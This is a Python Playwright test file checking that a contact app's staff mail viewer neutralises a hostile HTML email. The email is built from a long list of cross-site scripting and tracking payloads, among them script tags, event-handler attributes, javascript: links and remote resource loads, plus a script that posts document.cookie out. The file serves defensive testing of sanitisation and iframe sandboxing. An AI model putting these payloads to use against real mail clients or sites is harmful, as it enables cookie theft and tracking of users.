"""A hostile mail laid out in a real browser: no request leaves, no script runs, no cookie is in reach.

Once as it is made harmless, and once with that wall taken away, so that the frame has to hold alone.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from dataclasses import replace
from email.message import EmailMessage
from threading import Thread

import pytest
from playwright.sync_api import Browser, Frame, Page
from werkzeug.serving import make_server

from liju_contact.app import make_app
from liju_contact.usecases.deps import Deps
from tests.axe import violations
from tests.conftest import ONE_DATABASE
from tests.pictures.samples import encoded, photo
from tests.staff_desk import COOKIE, at_the_desk
from tests.usecases.mails import judged, mail, with_staff

pytestmark = ONE_DATABASE

HOSTILE = """
<p>Dear <b>LIJU</b>, two boilers please. <a href="{trap}/link">https://bank.example</a></p>
<img src="cid:plan" alt="The plan"><img src="{trap}/pixel.png" alt="A remote picture" onerror="{steal}">
<script>{steal}</script><script src="{trap}/x.js"></script>
<style>@import url({trap}/a.css); body {{ background: url({trap}/b.png) }}</style>
<p style="background: url({trap}/c.png); position: fixed; inset: 0">over all</p>
<link rel="stylesheet" href="{trap}/d.css"><link rel="prefetch" href="{trap}/e"><link rel="dns-prefetch" href="{trap}">
<meta http-equiv="refresh" content="0;url={trap}/refresh"><base href="{trap}/">
<iframe src="{trap}/frame"></iframe><iframe srcdoc="<script>{steal}</script>"></iframe>
<object data="{trap}/object"></object><embed src="{trap}/embed">
<video src="{trap}/video" poster="{trap}/poster" autoplay></video><audio src="{trap}/audio" autoplay></audio>
<svg onload="{steal}"><image href="{trap}/svg.png"/><script>{steal}</script></svg>
<form id="f" action="{trap}/form"><input name="password" autofocus onfocus="{steal}"><button>Go</button></form>
<input form="f" type="image" src="{trap}/image"><body onload="{steal}" background="{trap}/body.png">
<details open ontoggle="{steal}">x</details><a href="javascript:{steal}" id="js">click</a>
"""
STEAL = "top.document.title=`stolen`;parent.postMessage(document.cookie,`*`);document.title=`ran`"


@pytest.fixture
def trapped() -> Iterator[tuple[str, list[str]]]:
    """A server elsewhere; the list is what it was asked for."""
    asked: list[str] = []

    def answer(environ: dict[str, str], start: Callable[..., object]) -> list[bytes]:
        asked.append(environ["PATH_INFO"])
        start("200 OK", [("Access-Control-Allow-Origin", "*")])
        return [b""]

    server = make_server("127.0.0.1", 0, answer, threaded=True)
    Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.port}", asked
    server.shutdown()


@pytest.fixture
def opened(deps: Deps, browser: Browser) -> Iterator[Callable[[Deps, int], Page]]:
    """Return a function that opens a mail, as it was laid out, on a phone on which Li Wei is signed in."""
    closing: list[Callable[[], None]] = []
    token = at_the_desk(deps, make_app(deps).test_client()).token

    def open_mail(parts: Deps, inbound_id: int) -> Page:
        server = make_server("127.0.0.1", 0, make_app(parts), threaded=True)
        Thread(target=server.serve_forever, daemon=True).start()
        address = f"http://127.0.0.1:{server.port}"
        context = browser.new_context(base_url=address, viewport={"width": 390, "height": 844}, locale="en-GB")
        context.add_cookies([{"name": COOKIE, "value": token, "url": address}])
        closing.extend((context.close, server.shutdown))
        page = context.new_page()
        page.goto(f"/staff/mail/{inbound_id}?view=html", wait_until="networkidle")
        return page

    yield open_mail
    for close in closing:
        close()


def hostile_mail(trap: str) -> EmailMessage:
    written = mail("ana@usina.example", "inquiry@liju.example", "plain")
    written.add_alternative(HOSTILE.format(trap=trap, steal=STEAL), subtype="html")
    plan = encoded(photo(60, 40), "PNG")
    written.get_payload(1).add_related(plan, "image", "png", cid="<plan>")  # type: ignore[union-attr]  # the alternative just added
    return written


def frame_of(page: Page) -> Frame:
    return next(frame for frame in page.frames if frame.url.endswith("/html"))


def test_hostile_mail_is_laid_out_and_can_do_nothing(
    deps: Deps, opened: Callable[[Deps, int], Page], trapped: tuple[str, list[str]]
) -> None:
    trap, asked = trapped
    deps = with_staff(deps)

    page = opened(deps, judged(deps, hostile_mail(trap))["id"])

    frame = frame_of(page)
    assert "two boilers please" in frame.inner_text("body")
    assert f"https://bank.example <{trap}/link>" in frame.inner_text("body")
    assert frame.locator("img").first.bounding_box()["width"] == 60  # type: ignore[index]  # it is there
    assert (asked, "stolen" in page.title()) == ([], False)
    assert page.evaluate("document.documentElement.scrollWidth") == 390
    assert violations(page) == []


def test_frame_holds_alone_where_nothing_is_taken_out(
    deps: Deps, opened: Callable[[Deps, int], Page], trapped: tuple[str, list[str]]
) -> None:
    trap, asked = trapped
    deps = replace(with_staff(deps), view_mail=lambda _raw: HOSTILE.format(trap=trap, steal=STEAL))

    page = opened(deps, judged(deps, hostile_mail(trap))["id"])

    frame = frame_of(page)
    page.wait_for_timeout(300)
    frame.evaluate("document.querySelector('#js')?.click()")
    frame.evaluate("document.querySelector('#f')?.submit()")
    page.wait_for_timeout(300)
    assert (asked, page.title().startswith("stolen"), frame.title()) == ([], False, "Mail")
    assert frame.evaluate("window.origin") == "null"
    # Even a script that we run inside of it gets at nothing: the frame has no origin.
    reach = "(read => { try { return read() } catch (error) { return error.name } })"
    assert frame.evaluate(f"{reach}(() => document.cookie)") == "SecurityError"
    assert frame.evaluate(f"{reach}(() => top.document.title)") == "SecurityError"
    assert frame.evaluate("fetch('/staff').then(() => 'came', () => 'refused')") == "refused"
